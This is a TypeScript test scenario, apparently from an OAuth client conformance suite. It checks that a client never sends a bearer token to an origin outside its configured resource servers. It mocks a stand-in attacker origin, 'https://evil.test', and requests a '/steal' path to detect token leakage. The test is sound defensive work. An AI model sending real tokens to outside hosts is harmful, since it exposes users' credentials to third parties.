import type { Scenario } from "../scenario.ts";
import { robust } from "./_basis.ts";
import { carries, control, drain, setup } from "./_helpers.ts";

export default {
  id: "SEC-08",
  title: "No token to an origin outside the configured resource servers",
  severity: "ROBUST",
  source: "RFC 9700 §4.9.1; RFC 6750 §5.3",
  basis: [robust("RFC 6750 §5.3; RFC 9700", "no sentence tells a client where it may send a token beyond TLS; an origin allowlist keeps a URL built from runtime data from carrying the token elsewhere")],
  requires: { subject: ["fetch"] },
  async run(ctx) {
    await control(ctx);
    const { server, instance } = await setup(ctx, { origins: { "https://evil.test": () => ({ body: "ok" }) } });
    const res = await ctx.attempt(() => instance.fetch("https://evil.test/steal"));
    if (res.ok) await drain(res.value);
    const evil = server.requests.filter((r) => r.origin === "https://evil.test");
    const leaked = evil.filter((r) => r.header("authorization") !== null || server.issued.some((t) => carries(r, t.value)));
    ctx.check(leaked.length === 0, `evil.test got a token ${leaked.length} time(s)`);
    ctx.evidence(res.ok ? `sent without token (status ${res.value.status})` : `refused (${res.info.kind})`);
  },
} satisfies Scenario;
